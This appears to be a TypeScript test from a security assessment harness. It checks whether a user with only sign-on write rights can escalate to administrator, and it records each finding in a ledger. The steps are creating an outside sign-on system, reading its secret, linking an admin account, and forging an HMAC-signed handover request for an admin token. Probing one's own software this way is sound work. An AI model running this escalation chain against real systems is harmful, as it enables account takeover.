import { createHmac } from 'node:crypto';
import type { AttackPart } from '../attack-parts.ts';
import { ANONYMOUS_ATTACKER } from '../attack-people.ts';
import { formatWireReply } from '../wire/attack-client.ts';
import { callAsPerson, callOrThrow, createColleagueWithRights } from './attack-setup-steps.ts';

/** H3: the right to write sign-on makes an administrator of whoever holds it. */
export const takeoverBySignOn: AttackPart = async ({ wire, people: { admin } }) => {
  const clerk = await createColleagueWithRights(wire, admin, ['sso:write']);
  const system = (code: string) => ({ code, name: code, purposes: 'login', enabled: true });
  const owned = await callAsPerson(wire, clerk, 'POST /form/outsideSystem/save', system(`S${Date.now()}`));
  if (owned.json?.success) wire.ledger.find('H3', 'sso:write alone adds an outside system', formatWireReply(owned));
  const made = await callOrThrow(wire, admin, 'POST /form/outsideSystem/save', system(`T${Date.now()}`));
  const key = await callAsPerson(wire, clerk, `POST /b/outsideSystem/${made.id}/secret`, {});
  if (key.json?.success)
    wire.ledger.find('H3', 'sso:write alone reads a new secret of an outside system', formatWireReply(key));
  const link = { person: admin.userId, provider: 'cas', subject: `a${Date.now()}` };
  const linked = await callAsPerson(wire, clerk, 'POST /form/signOnAccount/save', link);
  if (linked.json?.success)
    wire.ledger.find('H3', "sso:write alone links an administrator's account", formatWireReply(linked));
  await handedOver();
  return 'outside systems, secrets, account links, administrators handed over';

  async function handedOver() {
    const { secret } = await callOrThrow(wire, admin, `POST /b/outsideSystem/${made.id}/secret`, {});
    const asking = { system: made.code, loginName: 'admin', purpose: 'login', time: Date.now() };
    const text = [asking.system, asking.loginName, asking.purpose, asking.time].join('\n');
    const sign = createHmac('sha256', secret).update(text).digest('hex');
    const reply = await callAsPerson(wire, ANONYMOUS_ATTACKER, 'POST /handover/token', { ...asking, sign });
    if (reply.json?.data?.authToken)
      wire.ledger.find('H3', 'an administrator is handed over by a system not marked for it', formatWireReply(reply));
  }
};
